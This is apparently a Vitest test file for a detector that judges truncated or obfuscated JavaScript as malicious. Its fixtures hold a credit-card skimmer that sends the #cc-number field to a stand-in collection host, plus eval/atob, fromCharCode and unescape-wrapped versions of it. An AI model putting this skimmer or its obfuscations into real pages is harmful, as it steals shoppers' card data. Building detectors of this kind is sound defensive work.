import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { closedPrefixes } from '#detection/closed-prefix.ts'
import { judgeScript } from '#detection/index.ts'
import { parseProgram } from '#program/index.ts'

const code = `(function(){var f=document.querySelector('#cc-number');
f.onchange=function(){var d=f.value.replace(/[;"'\\/]/g,'');/* a } comment */new Image().src='https://collect.stranger-shop.example/?d='+btoa(d);};
var later=[1,2,{a:"}"}];console.log(\`x}\`);function more(a){return a/2;}more(later);})();`

describe('a program whose end is missing', () => {
  it('is closed after a complete part, at any cut', () => {
    const atFirst = code.indexOf(';') + 1
    for (let cut = atFirst + 1; cut < code.length; cut += 7) {
      const first = closedPrefixes(code.slice(0, cut)).find((one) => parseProgram(one) !== null)
      expect(first, code.slice(0, cut)).toBeDefined()
      expect(code.startsWith(first!.replace(/[)};\]]*$/, ''))).toBe(true)
    }
  })

  it('is judged by the remaining part', () => {
    const judged = judgeScript(code.slice(0, code.indexOf('console')))
    expect(judged).toMatchObject({ verdict: 'malicious', parsed: 'partly', ended: false })
  })

  it('is judged by the call that was cut', () => {
    const torn = `setInterval(function(){new Image().src='https://collect.stranger-shop.example/?d='+document.querySelector('#cc-number').value+encodeURIComponent(location.`
    expect(judgeScript(torn).reasons.map((reason) => reason.code)).toContain('card-to-stranger')
  })

  it('is judged by the text that was cut, in any notation', () => {
    const codes = [...code].map((character) => character.charCodeAt(0))
    for (const whole of [
      `eval(atob("${btoa(code)}"))`,
      `eval(String.fromCharCode(${codes.join()}))`,
      `Function(unescape("${codes.map((one) => `%${one.toString(16).padStart(2, '0')}`).join('')}"))()`,
      `setTimeout(${JSON.stringify(code)},9)`,
    ]) {
      const judged = judgeScript(whole.slice(0, whole.length * 0.85))
      expect(judged, whole.slice(0, 30)).toMatchObject({ verdict: 'malicious', parsed: 'partly', ended: false })
      expect(judged.reasons[0]?.places[0]?.layer).toBe(1)
    }
  })

  it('gives nothing if no statement ends, and never throws', () => {
    expect(closedPrefixes('var a = "')).toEqual([])
    expect(closedPrefixes('')).toEqual([])
    fc.assert(
      fc.property(fc.string({ maxLength: 200 }), (text) => void closedPrefixes(text)),
      { numRuns: 200 },
    )
  })
})
